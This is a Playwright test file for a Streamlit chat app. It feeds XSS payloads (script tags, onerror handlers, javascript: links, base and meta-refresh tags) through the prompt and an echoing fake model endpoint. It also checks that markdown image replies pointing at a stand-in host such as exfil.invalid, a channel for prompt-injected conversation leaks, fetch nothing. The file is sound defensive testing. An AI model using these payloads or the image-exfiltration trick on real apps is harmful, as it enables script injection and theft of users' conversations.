"""Hostile text in the real browser: typed into the chat prompt and the system prompt, and sent
back by the model. The "model" is a local fake Azure endpoint (AZURE_INFERENCE_ENDPOINT) that
echoes the prompt it got, a few characters per SSE chunk so half-drawn markdown is rendered too.

For every input: no dialog fires, the page asks nothing of any other host or of any unexpected
path of its own, no active element (script, handler attribute, javascript: URL, image...) lands in
the conversation, the text shows as text, and the app keeps running.
"""

from __future__ import annotations

import json
import re
import sys
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.support.app_server import CHROMIUM, CHROMIUM_ARGS, running_app

# Streamlit fetches a `:material/...:` page icon from Google's font CDN; app.py uses a local file
# instead (test_a_page_load_stays_on_its_own_origin). The other tests allow it, to test just the input.
PAGE_ICON_CDN = "https://fonts.gstatic.com/s/i/short-term/release/materialsymbolsrounded/"
OWN_PATH_PREFIXES = ("/_stcore/", "/static/", "/media/")
OWN_PATHS = {"/", "/favicon.png"}

# name -> (the text, fragments that must be visible as text in the reply)
CORPUS: dict[str, tuple[str, list[str]]] = {
    "script": ("<script>alert(1)</script>", ["<script>alert(1)</script>"]),
    "img-onerror": ("<img src=x onerror=alert(1)>", ["<img src=x onerror=alert(1)>"]),
    "javascript-link": ("[link](javascript:alert(1)) and [b](JaVaScRiPt:alert(2)) and <javascript:alert(3)>",
                        ["link", "and"]),
    "html-link-and-markdown": ('<a href="javascript:alert(1)">click</a> **bold** <b>b</b>',
                               ['<a href="javascript:alert(1)">click</a>', "bold", "<b>b</b>"]),
    "base-style-meta": ('<base href="http://exfil.invalid/"><style>*{display:none}</style>'
                        '<meta http-equiv="refresh" content="0;url=http://exfil.invalid/">',
                        ['<base href="http://exfil.invalid/">', "<style>*{display:none}</style>"]),
    "iframe-svg-form": ('<iframe src="javascript:alert(1)"></iframe><svg onload=alert(1)>'
                        '<form action="http://exfil.invalid/"><button>go</button></form>',
                        ['<iframe src="javascript:alert(1)"></iframe>', "<svg onload=alert(1)>"]),
    "markdown-html-mixture": ("# Title <img src=x onerror=alert(2)>\n\n```html\n<script>alert(3)</script>\n```\n\n"
                              "| a | <b onmouseover=alert(4)>b</b> |\n|---|---|\n"
                              "| [c](javascript:alert(5)) | `<x>` |\n\n"
                              "> <details open ontoggle=alert(6)>q</details>",
                              ["Title <img src=x onerror=alert(2)>", "<script>alert(3)</script>",
                               "<b onmouseover=alert(4)>b</b>", "<details open ontoggle=alert(6)>q</details>"]),
    "latex-and-directives": (r"$$\href{javascript:alert(1)}{x}$$ :red[red] :material/home: <svg/onload=alert(7)>",
                             ["red", "<svg/onload=alert(7)>"]),
    "entities": ("&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E; &amp;",
                 ["alert(1)"]),
    "control-chars-and-nul": ("nul\x00here bell\x07 esc\x1b[31mred del\x7f tab\tend", ["here", "end"]),
    "rtl-override": ("invoice\u202egnp.exe\u202c and \u200fRTL mark \u2067isolate\u2069", ["invoice", "RTL mark"]),
    "emoji": ("👩🏽‍🚀 🏳️‍🌈 😀 🧑‍💻 ✔︎ \U0001F1FA\U0001F1F3", ["👩🏽‍🚀", "🏳️‍🌈", "😀", "🧑‍💻"]),
}


class EchoModel(BaseHTTPRequestHandler):
    """A chat endpoint that answers with what it was sent (the last user message and the
    system prompt), or with a markdown image when asked for SEND-IMAGE."""

    protocol_version = "HTTP/1.1"
    received: list[dict] = []
    image = ""  # the markdown sent back for SEND-IMAGE

    def log_message(self, *args):
        pass

    def do_GET(self):  # /info: this fake has none, like GitHub Models
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        EchoModel.received.append(body)
        messages = body["messages"]
        user = messages[-1]["content"]
        system = next((m["content"] for m in messages if m["role"] == "system"), "")
        if user == "SEND-IMAGE":
            reply = f"Here it is:\n\n{EchoModel.image}\n\ndone"
        else:
            reply = f"ECHO[{len(user)}]: {user[:4000]}\n\nSYSTEM: {system[:4000]}\n\nEND-OF-ECHO"
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        step = 7
        for start in range(0, len(reply), step):
            self._event({"index": 0, "delta": {"content": reply[start:start + step]}, "finish_reason": None})
            time.sleep(0.001)
        self._event({"index": 0, "delta": {}, "finish_reason": "stop"})
        self._chunk(b"data: [DONE]\n\n")
        self._chunk(b"")

    def _event(self, choice: dict) -> None:
        event = {"id": "echo", "created": 0, "model": "echo", "object": "chat.completion.chunk", "choices": [choice]}
        self._chunk(b"data: " + json.dumps(event).encode() + b"\n\n")

    def _chunk(self, data: bytes) -> None:
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
        self.wfile.flush()


class QuietServer(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request, client_address):
        if not isinstance(sys.exc_info()[1], (ConnectionResetError, BrokenPipeError)):  # a client hanging up
            super().handle_error(request, client_address)


@pytest.fixture(scope="module")
def echo_url():
    server = QuietServer(("127.0.0.1", 0), EchoModel)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def app(endpoint, echo_url, tmp_path_factory):
    log = tmp_path_factory.mktemp("hostile") / "streamlit.log"
    with running_app({"AZURE_INFERENCE_ENDPOINT": echo_url, "AZURE_INFERENCE_CREDENTIAL": "fake-key",
                      "PLAYGROUND_LOCAL_PORT": str(endpoint.port)}, log) as url:
        yield url


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser):
    """A fresh page (a new Streamlit session) in its own browser context."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield context.new_page()
    context.close()


class Watch:
    """Every dialog and request a page makes."""

    def __init__(self, page, app_url: str):
        self.page, self.origin = page, urlsplit(app_url).netloc
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("websocket", lambda ws: self.requests.append(ws.url))

    def _dialog(self, dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def unexpected_requests(self, allow_page_icon: bool = True) -> list[str]:
        odd = []
        for url in self.requests:
            parts = urlsplit(url)
            if parts.scheme in ("data", "blob"):
                continue
            if allow_page_icon and url.startswith(PAGE_ICON_CDN):
                continue
            own = parts.netloc == self.origin and (parts.path in OWN_PATHS or parts.path.startswith(OWN_PATH_PREFIXES))
            if not own:
                odd.append(url)
        return odd


ACTIVE_CONTENT = """() => {
  const bad = [];
  // Streamlit's own code blocks carry a copy <button> with an <svg> icon: those tags are allowed,
  // event-handler attributes and script URLs on them are not.
  const forbidden = new Set(['SCRIPT', 'IFRAME', 'FRAME', 'OBJECT', 'EMBED', 'IMG', 'BASE', 'STYLE', 'META',
                             'LINK', 'FORM', 'VIDEO', 'AUDIO', 'DETAILS']);
  for (const box of document.querySelectorAll('[data-testid="stChatMessage"] [data-testid="stMarkdownContainer"]')) {
    for (const el of box.querySelectorAll('*')) {
      if (forbidden.has(el.tagName.toUpperCase())) bad.push('<' + el.tagName.toLowerCase() + '>');
      for (const attr of el.attributes) {
        const value = attr.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
        if (attr.name.toLowerCase().startsWith('on')) bad.push(el.tagName + '[' + attr.name + ']');
        if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attr.name.toLowerCase())
            && (value.startsWith('javascript:') || value.startsWith('data:') || value.startsWith('vbscript:')))
          bad.push(el.tagName + '[' + attr.name + '=' + attr.value + ']');
      }
    }
  }
  if (document.querySelectorAll('base').length) bad.push('a <base> in the document');
  if (new URL(document.baseURI).origin !== location.origin) bad.push('baseURI moved to ' + document.baseURI);
  return bad;
}"""


def chat_box(page):
    box = page.get_by_test_id("stChatInput").locator("textarea")
    box.wait_for(timeout=90_000)
    return box


PASTE = """(box, text) => {
  // What a paste does: set the value through React's setter, then fire one input event.
  Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value').set.call(box, text);
  box.dispatchEvent(new Event('input', {bubbles: true}));
}"""


def send_and_wait(page, text: str, *, type_it: bool = False, paste: bool = False, timeout: float = 60_000):
    box = chat_box(page)
    if type_it:
        box.press_sequentially(text, delay=5)
    elif paste:
        box.evaluate(PASTE, text)
    else:
        box.fill(text)
    before = page.get_by_test_id("stChatMessage").count()
    box.press("Enter")
    messages = page.get_by_test_id("stChatMessage")
    expect(messages).to_have_count(before + 2, timeout=timeout)
    reply = messages.nth(before + 1)
    expect(reply.get_by_text("finish: stop")).to_be_visible(timeout=timeout)
    # Math and some markdown load their renderer lazily, showing a skeleton meanwhile.
    expect(page.get_by_test_id("stChatMessage").get_by_test_id("stSkeleton")).to_have_count(0, timeout=timeout)
    return reply


def assert_app_alive(page, app_url: str) -> None:
    assert page.get_by_test_id("stException").count() == 0
    expect(chat_box(page)).to_be_enabled()
    with urllib.request.urlopen(app_url + "/_stcore/health", timeout=10) as response:
        assert response.read() == b"ok"


@pytest.mark.parametrize("name", list(CORPUS))
def test_hostile_prompt_and_its_echo_show_as_text(app, name, page):
    text, visible = CORPUS[name]
    EchoModel.received.clear()
    watch = Watch(page, app)
    page.goto(app)
    reply = send_and_wait(page, text, type_it=name in ("script", "emoji"))
    page.wait_for_timeout(300)  # let any late handler or image load show itself

    sent = EchoModel.received[-1]["messages"][-1]["content"]
    # The prompt reached the model as typed (a browser may turn NUL into U+FFFD).
    assert sent.replace("\ufffd", "\x00") == text or sent == text, (sent, text)
    shown = reply.inner_text()
    for fragment in visible:
        assert fragment in shown, (fragment, shown)
    # textContent: a long user message is drawn folded, so part of it may not be rendered visibly.
    user_shown = page.get_by_test_id("stChatMessage").nth(0).text_content()
    for fragment in visible:
        assert fragment in user_shown, (fragment, user_shown)
    assert page.evaluate(ACTIVE_CONTENT) == []
    assert watch.dialogs == []
    assert watch.unexpected_requests() == []
    assert_app_alive(page, app)


def test_hostile_system_prompt_is_sent_verbatim_and_echoed_as_text(app, page):
    system = " ".join(text for name, (text, _) in CORPUS.items() if name in (
        "script", "img-onerror", "javascript-link", "iframe-svg-form", "rtl-override", "emoji"))
    EchoModel.received.clear()
    watch = Watch(page, app)
    page.goto(app)
    chat_box(page)
    area = page.get_by_role("textbox", name="System prompt", exact=True)
    area.fill(system)
    area.press("Tab")  # commit the widget value
    page.wait_for_timeout(500)
    reply = send_and_wait(page, "hello")
    page.wait_for_timeout(300)
    body = EchoModel.received[-1]
    assert body["messages"][0] == {"role": "system", "content": system}
    shown = reply.inner_text()
    for fragment in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                     '<iframe src="javascript:alert(1)"></iframe>', "👩🏽‍🚀"):
        assert fragment in shown
    assert area.input_value() == system
    assert page.evaluate(ACTIVE_CONTENT) == []
    assert watch.dialogs == []
    assert watch.unexpected_requests() == []
    assert_app_alive(page, app)


def test_a_one_megabyte_prompt_is_sent_whole_and_the_app_stays_up(app, page):
    # (No RTL override here: 30,000 of them make Chromium's bidi layout take minutes, in any textarea.)
    unit = "<img src=x onerror=alert(1)> **bold** [x](javascript:alert(1)) ✔ 👩🏽‍🚀 "
    text = (unit * (1_000_000 // len(unit) + 1))[:1_000_000]
    EchoModel.received.clear()
    watch = Watch(page, app)
    page.goto(app)
    reply = send_and_wait(page, text, paste=True, timeout=180_000)
    assert len(EchoModel.received[-1]["messages"][-1]["content"]) == 1_000_000
    assert "ECHO[1000000]" in reply.inner_text()
    assert page.evaluate(ACTIVE_CONTENT) == []
    assert watch.dialogs == []
    assert watch.unexpected_requests() == []
    assert_app_alive(page, app)
    # And the next, ordinary prompt still works.
    assert "ECHO[5]: hello" in send_and_wait(page, "hello", timeout=180_000).inner_text()


# Markdown that makes a browser fetch an image at once: a prompt-injected reply could leak the
# conversation to any host. Each is sent by the model; none may cause a request.
BYPASS = ("components.conversation.without_images matches `![alt](` / `![alt][` line by line and guesses "
          "code fences; CommonMark also reads this as an image, so it is fetched")
IMAGE_REPLIES = {
    "inline": "![pixel](http://exfil.invalid/inline.png?d=secret)",
    "title-and-angle-brackets": '![p](<http://exfil.invalid/angle.png> "t") ![q](http://exfil.invalid/title.png "t")',
    "reference": "![pixel][r]\n\n[r]: http://exfil.invalid/reference.png",
    "collapsed-reference": "![pixel][]\n\n[pixel]: http://exfil.invalid/collapsed.png",
    "shortcut-reference": "see ![pixel] here\n\n[pixel]: http://exfil.invalid/shortcut.png",
    "brackets-in-alt": "![a [b] c](http://exfil.invalid/brackets.png)",
    "alt-over-two-lines": "![first\nsecond](http://exfil.invalid/twolines.png)",
    "image-inside-a-link": "[![p](http://exfil.invalid/nested.png)](http://example.com/)",
    "after-a-one-line-code-span": "```x```\n![p](http://exfil.invalid/afterspan.png)",
    "after-an-indented-fence": "text\n\n    ```\n![p](http://exfil.invalid/afterindent.png)",
    "relative": "![p](x.png) ![q](/_stcore/../x.png)",
}


KNOWN_BYPASSES: set[str] = set()  # none since without_images breaks every `![`


@pytest.mark.parametrize("name", [
    pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=BYPASS)) if name in KNOWN_BYPASSES else name
    for name in IMAGE_REPLIES])
def test_an_image_in_a_reply_fetches_nothing(app, page, name):
    EchoModel.image = IMAGE_REPLIES[name]
    watch = Watch(page, app)
    page.goto(app)
    send_and_wait(page, "SEND-IMAGE")
    page.wait_for_timeout(500)
    assert watch.dialogs == []
    assert watch.unexpected_requests(allow_page_icon=False) == [], "the reply's image was fetched"
    images = page.evaluate("""() => [...document.querySelectorAll(
        '[data-testid="stChatMessage"] [data-testid="stMarkdownContainer"] img')].map(i => i.src)""")
    assert images == []
    # Reloaded from the store, the reply is drawn by the other path (render_message): same rule.
    expect(page).to_have_url(re.compile(r"\?c=[\w-]{16,}"), timeout=30_000)  # what a reload reopens
    page.reload()
    expect(page.get_by_test_id("stChatMessage")).to_have_count(2, timeout=60_000)
    page.wait_for_timeout(500)
    assert watch.unexpected_requests(allow_page_icon=False) == [], "the saved reply's image was fetched"


def test_a_page_load_stays_on_its_own_origin(app, page):
    watch = Watch(page, app)
    page.goto(app)
    chat_box(page)
    page.wait_for_timeout(500)
    assert watch.unexpected_requests(allow_page_icon=False) == []
